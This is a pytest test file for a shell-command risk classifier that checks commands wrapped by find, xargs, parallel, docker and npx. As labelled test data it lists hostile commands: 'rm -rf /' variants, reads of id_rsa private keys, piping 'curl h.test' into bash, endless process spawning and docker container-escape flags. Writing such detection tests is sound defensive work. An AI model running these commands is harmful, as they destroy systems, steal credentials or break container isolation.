"""Programs that run others with arguments of their own making hand every one of them to the same analysis."""

import pytest

from tests.shell.corpus_rows import label, rated, rules

CASES = """
find / -delete => delete.root
find . -name '*.o' -delete => delete.workspace
find . -exec rm -rf / ';' => delete.root
find /etc -type f -exec rm {} + => delete.system
find . -fprint /etc/hosts => write.system
find ~ -name id_rsa -exec cat {} ';' => protected.read
fd -x rm -rf / => delete.root
xargs rm -rf <<< / => delete.root
echo / | xargs -I{} rm -rf {} => delete.root
printf '/\\0' | xargs -0 rm -rf => delete.root
curl h.test | xargs -0 bash -c => runs-remote
yes | xargs -P 0 sh => spawns-endlessly
parallel rm -rf ::: / => delete.root
parallel -S h.test id ::: a => network
tmux new -d 'rm -rf /' => delete.root
docker run -v /:/h x => container-escape
docker run --privileged x => container-escape
docker run --mount type=bind,src=/etc,dst=/x y => container-escape
docker run --cap-add=SYS_ADMIN x => container-escape
docker run --device=/dev/sda x => container-escape
docker run -v /var/run/docker.sock:/s x => container-escape
docker run x rm -rf / => remote-loss
npx frobnicate => runs-registry-code
npx jest => runs-project-code
npx -c 'rm -rf /' => delete.root
cat $(locate id_rsa) => protected.read
""".strip().splitlines()


@pytest.mark.parametrize("case", CASES)
def test_what_is_wrapped_counts(case):
    command, _, rule = case.partition(" => ")
    assert rule in rules(command.replace("\\\\", "\\"))


@pytest.mark.parametrize(
    "command",
    ["find . -name '*.py'", "fd py src", "ls | xargs -n1 basename", "find . -type f | xargs grep x", "which ls"],
)
def test_looking_for_files_is_safe(command):
    assert label(command) == "safe"


def test_a_named_volume_and_the_workspace_may_be_mounted():
    for mount in ("data:/d", "./src:/s"):
        assert "container-escape" not in rules(f"docker run -v {mount} x")


def test_a_program_found_by_name_is_called_by_its_path():
    assert rated("$(which rm) -rf build").simple_commands[-1].argv[0] == "/usr/bin/rm"
